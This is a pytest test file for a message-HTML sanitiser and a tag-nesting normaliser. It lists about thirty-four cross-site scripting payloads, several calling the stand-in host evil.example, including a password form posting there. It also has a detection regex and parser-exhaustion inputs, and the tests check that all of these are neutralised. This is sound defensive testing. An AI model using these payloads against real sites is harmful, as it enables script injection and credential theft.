"""Message HTML: nothing that runs, calls home or poses as something else survives, and no message takes long to show."""

import re
import time

import pytest

from shared.administration.levelling import levelled
from shared.administration.sanitising import sanitised

INLINE = {"logo@contoso": "/api/activities/1/attachments/0"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">x</p>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><image href=https://evil.example/x></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name=password><button>x</button></form>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:red;background-image:\\75rl(https://evil.example/x)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<td background="https://evil.example/x">x</td>',
    '<img srcset="https://evil.example/x 1x">',
    '<img src="//evil.example/x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<template><img src=x onerror=alert(1)></template>",
    '<a id="location" name="location" href="#x">x</a>',
]

DANGEROUS = re.compile(
    r"<(?!/?(?:p|a|img|td|table|tbody|tr|div|span)\b)|\bon\w+\s*=|script|expression|url\(|position|"
    r"(?<!blocked:)https?://evil|//evil(?<!https://evil)|data:(?!image/(?:png|gif|jpeg|webp))|\b(?:id|name)=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("among", ["{}", "<p>before</p>{}<p>after</p>", "<p>x</p>" * 600 + "{}"])
def test_what_is_dangerous_is_gone(html: str, among: str) -> None:
    assert not DANGEROUS.search(sanitised(among.format(html), INLINE))


def test_what_a_person_wrote_stays() -> None:
    written = (
        '<div style="color:#333;font-family:Calibri"><h1>Offer</h1><p>Dear <b>Anna</b>, see <i>below</i>.</p>'
        '<table border="1"><tbody><tr><td colspan="2">1 &lt; 2</td></tr></tbody></table><ul><li>one</li></ul></div>'
    )

    assert sanitised(written, {}) == written


@pytest.mark.parametrize(
    "source", ["https://tracker.example/pixel.gif?id=1", "http://tracker.example/x", " HTTPS://tracker.example/x"]
)
def test_a_remote_image_is_blocked_and_its_address_kept(source: str) -> None:
    shown = sanitised(f'<img src="{source}" alt="logo" width="1">', {})

    assert shown == f'<img src="blocked:{source.strip()}" alt="logo" width="1">'


def test_an_inline_image_points_to_its_attachment() -> None:
    assert sanitised('<img src="cid:logo@contoso">', INLINE) == f'<img src="{INLINE["logo@contoso"]}">'
    assert sanitised('<img src="CID:logo%40contoso">', INLINE) == f'<img src="{INLINE["logo@contoso"]}">'


def test_an_inline_image_that_is_not_there_shows_nothing() -> None:
    assert sanitised('<img src="cid:other@contoso" alt="x">', INLINE) == '<img alt="x">'


def test_a_picture_inside_the_html_stays() -> None:
    assert "data:image/png;base64,iVBORw0KGgo=" in sanitised('<img src="data:image/png;base64,iVBORw0KGgo=">', {})


def test_a_link_opens_elsewhere_and_tells_nobody_where_it_was_clicked() -> None:
    shown = sanitised('<a href="https://fabrikam.example/?a=1&b=2" target="_top" rel="opener">x</a>', {})

    assert shown == ('<a href="https://fabrikam.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>')


@pytest.mark.parametrize("href", ["mailto:anna@contoso.example", "tel:+49123"])
def test_links_to_people_stay(href: str) -> None:
    assert f'href="{href}"' in sanitised(f'<a href="{href}">x</a>', {})


EXHAUSTING = {
    "nested": "<div>" * 200_000,
    "formatting in each paragraph": "".join(f"<font color=c{n}>" for n in range(500)) + "<p>x</p>" * 50_000,
    "formatting and paragraphs": "".join(f"<font color=c{n}><p>" for n in range(20_000)),
    "open quotes": '<a title="' * 50_000,
    "angle brackets": "<" * 300_000,
    "comments": "<!--" * 200_000,
    "references": "&" * 500_000,
    "named references": "&amp;" * 200_000,
    "attributes": "<p " + " a=b" * 200_000 + ">",
    "closing tags": "</p" * 200_000,
    "scripts": "<script>" + "</scrip" * 100_000,
    "table cells": "<table>" + "<b>x" * 20_000,
    "links": "<a href=x>x" * 40_000,
}


@pytest.mark.parametrize("html", EXHAUSTING.values(), ids=EXHAUSTING.keys())
def test_html_that_is_made_to_exhaust_a_parser_is_shown_quickly(html: str) -> None:
    began = time.thread_time()

    sanitised(html, {})

    assert time.thread_time() - began < 5


def test_levelling_leaves_good_html_alone() -> None:
    row = '<tr><td class="x">a &amp; b<br></td><td><b>c</b> <i>d</i></td></tr>'
    html = f"<div><table><tbody>{row * 300}</tbody></table></div>"

    assert levelled(html) == html


def test_levelling_ends_what_html_ends_by_itself() -> None:
    assert levelled("<ul>" + "<li>x<p>y" * 300).startswith("<ul><li>x<p>y</p></li><li>x<p>y</p></li>")
    assert levelled("<p>a<div>b" + "<hr>" * 600).startswith("<p>a</p><div>b<hr>")
    assert "<td>x</td></tr><tr><td>" in levelled("<table>" + "<tr><td>x" * 300)


def test_levelling_keeps_the_text_of_what_it_leaves_out() -> None:
    shown = levelled("<div>" * 600 + "inside" + "</div>" * 600 + "<p>after</p>")

    assert shown == "<div>" * 100 + "inside" + "</div>" * 100 + "<p>after</p>"


@pytest.mark.parametrize("attribute", ['title="a > b"', "title='a > b'", 'title="it\'s"', "title=plain", "title"])
def test_levelling_reads_attributes_as_html_does(attribute: str) -> None:
    assert levelled(f"<p {attribute}>x</p>" + "<br>" * 600).startswith("<p title=")
    assert "x</p>" in levelled(f"<p {attribute}>x</p>" + "<br>" * 600)
